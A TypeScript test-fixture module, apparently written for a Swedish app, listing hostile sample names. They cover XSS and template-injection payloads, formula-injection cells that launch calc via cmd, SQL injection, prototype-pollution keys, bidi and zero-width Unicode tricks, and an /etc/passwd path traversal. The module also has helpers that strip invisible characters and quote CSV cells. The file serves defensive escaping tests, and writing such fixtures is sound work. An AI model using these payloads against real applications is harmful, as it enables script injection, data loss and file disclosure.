const FLAGGA = 'globalThis.KORD=1';
const tecken = (...koder: number[]) => String.fromCodePoint(...koder);

/**
 * Names that nobody has, and that would do something wherever they are taken for more than text. Each
 * begins with its own number, so that none is taken for another.
 */
export const FIENTLIGA: readonly string[] = [
	`<script>${FLAGGA}</script>`,
	`<img src=x onerror="${FLAGGA}">`,
	`<svg onload=${FLAGGA}><animate onbegin=${FLAGGA} attributeName=x></svg>`,
	`"><iframe srcdoc="<script>parent.${FLAGGA}</script>"></iframe>`,
	`' onmouseover='${FLAGGA}' x='`,
	`" autofocus onfocus="${FLAGGA}`,
	`</title><script>${FLAGGA}</script>`,
	`</textarea></style></noscript><details open ontoggle=${FLAGGA}>`,
	`<!--<script>${FLAGGA}//--><b>fet</b>`,
	`]]><script>${FLAGGA}</script><![CDATA[`,
	`<math><mtext><mglyph><style><img src=x onerror=${FLAGGA}>`,
	`<a href="javascript:${FLAGGA}">klicka</a>`,
	`javascript:${FLAGGA}`,
	`[klicka](javascript:${FLAGGA})`,
	`![bild](https://exempel.example/x.png "${FLAGGA}")`,
	`data:text/html,<script>${FLAGGA}</script>`,
	`<object data="data:text/html,x"></object><embed src=x>`,
	`<form action=https://exempel.example><button>Skicka</button></form>`,
	`<meta http-equiv=refresh content="0;url=https://exempel.example">`,
	`<base href="https://exempel.example/">`,
	`<link rel=stylesheet href=https://exempel.example/x.css>`,
	`{@html "<img src=x onerror=${FLAGGA}>"}{#if true}{FLAGGA}{/if}`,
	`{{constructor.constructor("${FLAGGA}")()}} \${${FLAGGA}} <%= ${FLAGGA} %> #{x}`,
	`{a|b} {c} %s %d {value} {@0}`,
	'__proto__',
	'constructor',
	'toString hasOwnProperty prototype',
	`=HYPERLINK("https://exempel.example?"&A1;"klicka")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	'-2+3+cmd',
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`${tecken(0xff1d)}1+1 ${tecken(0xff0b)}2`,
	`'; DROP TABLE kontakt; --`,
	`" OR 1=1; ATTACH 'x' AS y; --`,
	`$1 ? :namn $$text$$ /* kommentar */`,
	`${tecken(0x202e)}baklänges 123${tecken(0x202c)} ${tecken(0x2066)}skild${tecken(0x2069)}`,
	`${tecken(0x200f)}שלום עולם 45 ${tecken(0x061c)}مرحبا 67`,
	`noll${tecken(0x200b)}bredd${tecken(0x200d)}${tecken(0xfeff)}mjukt${tecken(0xad)}streck`,
	`tecken${tecken(0)}noll${tecken(7)}klocka${tecken(0x1b)}[31mrött`,
	`Zalgo e${tecken(0x301, 0x302, 0x303, 0x304, 0x305)} ${tecken(0x1f469, 0x200d, 0x1f4bb)} ${tecken(0x1f1f8, 0x1f1ea)}`,
	`"citat" 'apostrof' \\snedstreck\\ / | ; , tab\\t`,
	`&lt;b&gt; &amp; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e`,
	`../../../etc/passwd ..\\..\\CON.txt`,
	'långt '.repeat(1_667).trim()
].map((text, i) => `F${String(i + 1).padStart(2, '0')} ${text}`);

/** The same, as the cell of a formula must begin: without a number before it. */
export const FORMLER: readonly string[] = [
	'=1+1',
	'+2+2',
	'-3+3',
	'@SUM(A1)',
	'=HYPERLINK("https://exempel.example")',
	`${tecken(0xff1d)}4+4`
];

/** What is seen of a text: no marks that are not, and spaces of every kind as one. */
export function synligt(text: string): string {
	return text
		.toWellFormed()
		.replace(/[^\P{Cc}\t\n\r]|[\p{Cf}\ufffd\ufffe\uffff]/gu, '')
		.replace(/\s+/g, ' ')
		.trim();
}

/** A cell of a CSV file. */
export const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
